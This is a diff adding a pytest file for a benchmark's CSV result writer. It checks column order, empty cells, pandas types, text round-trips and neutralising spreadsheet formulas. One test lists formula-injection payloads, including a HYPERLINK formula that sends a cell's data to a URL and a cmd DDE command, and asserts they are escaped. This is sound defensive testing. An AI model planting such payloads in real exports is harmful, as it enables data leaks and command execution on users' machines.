@@ -1,0 +1,146 @@
+from __future__ import annotations
+
+import csv
+import io
+
+import numpy as np
+import pandas as pd
+import pytest
+from handmade import failed_turn, make_turn
+from hypothesis import given
+from hypothesis import strategies as st
+
+from voicebench.metrics import METRICS, compute
+from voicebench.results.csv_rows import (
+    COLUMNS,
+    CSV_COLUMNS,
+    quoted,
+    row,
+    unquoted,
+    write_rows,
+)
+from voicebench.timeline import Timeline
+
+
+def written(turns: list[Timeline]) -> str:
+    file = io.StringIO(newline="")
+    write_rows(file, turns)
+    return file.getvalue()
+
+
+def frame(turns: list[Timeline]) -> pd.DataFrame:
+    return pd.read_csv(io.StringIO(written(turns)))
+
+
+def test_the_header_is_what_people_have_built_on():
+    assert CSV_COLUMNS[:9] == (
+        "turn",
+        "phase",
+        "prompt",
+        "status",
+        "failure_reason",
+        "failure_stage",
+        "reply_words",
+        "first_chunk_text",
+        "first_chunk_words",
+    )
+    assert CSV_COLUMNS[9:] == tuple(metric.name for metric in METRICS)
+    assert written([]) == ",".join(CSV_COLUMNS) + "\n"
+
+
+def test_every_column_says_what_it_holds():
+    assert all(doc for _, doc in COLUMNS)
+
+
+def test_a_row_holds_the_numbers_of_the_metrics_unrounded():
+    turn = make_turn(tokens=((100.1234567, "Hi"), (133.7, " there")))
+    cells = row(turn)
+    assert tuple(cells) == CSV_COLUMNS
+    assert {name: cells[name] for name in compute(turn)} == compute(turn)
+    assert cells["reply_words"] == 2
+    assert cells["first_chunk_words"] == 4
+    assert frame([turn])["llm_ttft_ms"][0] == cells["llm_ttft_ms"]
+
+
+def test_a_failed_turn_has_its_reason_and_stage_and_what_was_observed():
+    cells = row(failed_turn(reason="no memory"))
+    assert (cells["status"], cells["failure_reason"], cells["failure_stage"]) == (
+        "failed",
+        "no memory",
+        "tts",
+    )
+    assert cells["llm_ttft_ms"] == 100
+    assert cells["first_audio_ms"] is None
+
+
+def test_what_a_turn_cannot_show_is_an_empty_cell_and_never_zero():
+    [line] = list(csv.DictReader(io.StringIO(written([make_turn(tokens=(), chunks=())]))))
+    for name in ("llm_ttft_ms", "reply_words", "first_chunk_text", "first_chunk_words"):
+        assert line[name] == ""
+    assert line["stall_count"] == "0"
+
+
+def test_pandas_reads_the_right_types_without_options():
+    turns = [make_turn(1), failed_turn(2), make_turn(3, prompt='Say "a, b"\nand c')]
+    table = frame(turns)
+    assert table["turn"].dtype == np.int64
+    assert table["first_audio_ms"].dtype == np.float64
+    assert table["first_audio_ms"].isna().tolist() == [False, True, False]
+    assert table["phase"].tolist() == ["measured"] * 3
+    assert table["prompt"].tolist() == [turn.prompt for turn in turns]
+    assert table["failure_reason"].isna().tolist() == [True, False, True]
+    assert frame(turns[:1])["stall_count"].dtype == np.int64
+    assert table["connect_ms"].dtype == np.float64
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://example.org/?"&A1)',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "  =1+1",
+        "\n=1",
+        "＝1+1",
+        "'quoted'",
+    ],
+)
+def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(text):
+    [line] = list(csv.DictReader(io.StringIO(written([make_turn(prompt=text)]), newline="")))
+    assert line["prompt"] == f"'{text}"
+    assert unquoted(line["prompt"]) == text
+
+
+@pytest.mark.parametrize("text", ["NA", "nan", "None", "null", "", "  ", "42", "1e5", "TRUE", "inf"])
+def test_a_text_that_reads_like_a_number_or_nothing_stays_a_text_for_pandas(text):
+    cell = frame([make_turn(prompt=text)])["prompt"][0]
+    assert isinstance(cell, str)
+    assert unquoted(cell) == text
+
+
+def test_a_negative_number_is_no_formula():
+    turn = make_turn()
+    negative = Timeline(
+        **{name: getattr(turn, name) for name in turn.__dataclass_fields__}
+        | {"server_timings": (500.0,)}
+    )
+    assert frame([negative])["transport_ms"][0] == pytest.approx(-200)
+
+
+@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0\r")))
+def test_any_text_comes_back_from_its_cell(text):
+    assert unquoted(quoted(text)) == text
+
+
+@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0\r"), min_size=1))
+def test_any_text_comes_back_from_the_file_through_pandas(text):
+    assert unquoted(frame([make_turn(prompt=text)])["prompt"][0]) == text
+
+
+def test_what_no_utf8_file_can_hold_is_replaced():
+    assert quoted("a\ud83d b") == "a� b"
+    assert quoted("a\0b") == "a�b"
+    assert quoted("a\r\nb\rc") == "a\nb\nc"
+    assert quoted("\ud83d\ude00") == "😀"
